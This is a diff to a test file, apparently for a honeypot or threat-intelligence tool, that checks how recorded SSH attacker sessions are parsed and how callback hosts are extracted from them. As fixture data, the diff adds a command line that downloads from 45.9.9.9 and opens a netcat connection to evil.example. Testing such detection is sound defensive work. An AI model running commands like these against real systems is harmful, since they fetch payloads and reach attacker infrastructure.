@@ -133,7 +133,7 @@ test("an observation has what its sensor reported, in order, and says who gave e
     application: "ssh",
     login_attempts: 2,
     credentials: [{ username: "root" }, { username: "root", password: "<b>" }],
-    commands: ["uname -a", "", "cd /tmp", "uname -a"],
+    commands: ["uname -a", "", "wget http://45.9.9.9/x; nc evil.example 9", "uname -a"],
     ssh: { hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1" },
     tags: ["worm"],
   };
@@ -145,6 +145,7 @@ test("an observation has what its sensor reported, in order, and says who gave e
       {
         observed_at: "2026-11-20T14:00:00.250Z",
         dataset: "global",
+        established: true,
         destination_port: 22,
         transport: "tcp",
         application: "ssh",
@@ -153,7 +154,11 @@ test("an observation has what its sensor reported, in order, and says who gave e
           { username: "root", password: "" },
           { username: "root", password: "<b>" },
         ],
-        commands: ["uname -a", "", "cd /tmp", "uname -a"],
+        commands: ["uname -a", "", "wget http://45.9.9.9/x; nc evil.example 9", "uname -a"],
+        callbacks: [
+          { host: "45.9.9.9", port: 80, scheme: "http", path: "/x" },
+          { host: "evil.example", port: 9, scheme: "tcp" },
+        ],
         ssh: { hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1" },
         tags: [{ id: worm.id, slug: "worm", name: worm.name, intention: "malicious", given_by: "sensor" }],
       },
